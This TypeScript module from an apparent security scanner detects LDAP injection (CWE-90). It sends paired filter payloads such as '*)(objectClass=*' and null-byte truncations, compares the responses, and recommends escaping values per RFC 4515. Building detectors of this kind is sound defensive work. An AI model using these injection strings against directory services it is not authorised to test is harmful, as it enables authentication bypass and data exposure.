import { looksLike, takesText } from '../affinity.ts';
import { pair, plainSeed } from '../proofs.ts';
import type { Payload, Strategy } from '../strategy.ts';

/**
 * Every entry has an object class, and none is called `zq`. Both of a pair begin alike, so that who only reads the
 * beginning, and leaves what does not belong to it, answers both alike.
 */
function filters(seed: string): Payload[] {
  return [
    pair('and', true, `${seed})(objectClass=*`, `${seed})(objectClass=zq`),
    pair('wider', true, 'zq*)(objectClass=*', '*)(objectClass=*'),
    pair('or', true, `${seed})(objectClass=zq`, `${seed})(objectClass=*`),
    pair('or-not', true, `${seed})(objectClass=zq`, `${seed})(!(objectClass=zq)`),
    pair('and-not', false, `${seed})(!(objectClass=zq)`, `${seed})(!(objectClass=*)`),
    pair('at-least', false, `${seed})(objectClass>=zzzz`, `${seed})(objectClass>=a`),
    pair('or-group', false, `${seed})(&(objectClass=zq)`, `${seed})(|(objectClass=*)`),
    pair('cut', false, 'zq*)(objectClass=*))\0', '*)(objectClass=*))\0'),
    pair('cut-encoded', false, 'zq*)(objectClass=*))%00', '*)(objectClass=*))%00'),
    pair('next-filter', false, 'zq*))(&(objectClass=*', '*))(&(objectClass=*'),
    pair('spaced', false, `${seed}) (objectClass=*`, `${seed}) (objectClass=zq`),
    pair('number', false, `${seed})(2.5.4.0=*`, `${seed})(2.5.4.0=zq`),
  ];
}

export const ldapInjection: Strategy = {
  meta: {
    id: 'ldap-injection',
    title: 'Filters of a directory',
    about: 'Brackets and further conditions in a filter of LDAP, in pairs that hold and do not.',
    cwe: 'CWE-90',
    optIn: false,
    severity: 'high',
    finding: 'A value becomes part of a directory filter',
    fix: 'Escape `\\`, `*`, `(`, `)` and NUL in every value that goes into a filter, as RFC 4515 says. Better, use a library that builds filters out of values.',
  },
  of: 'value',
  fits(subject, position) {
    if (position === undefined || subject.kind === 'protocol' || !takesText(position)) return 0;
    return Math.max(looksLike(position, 'user', subject), looksLike(position, 'query', subject) * 0.7);
  },
  payloads: (_subject, position) => (position === undefined ? [] : filters(plainSeed(position))),
};
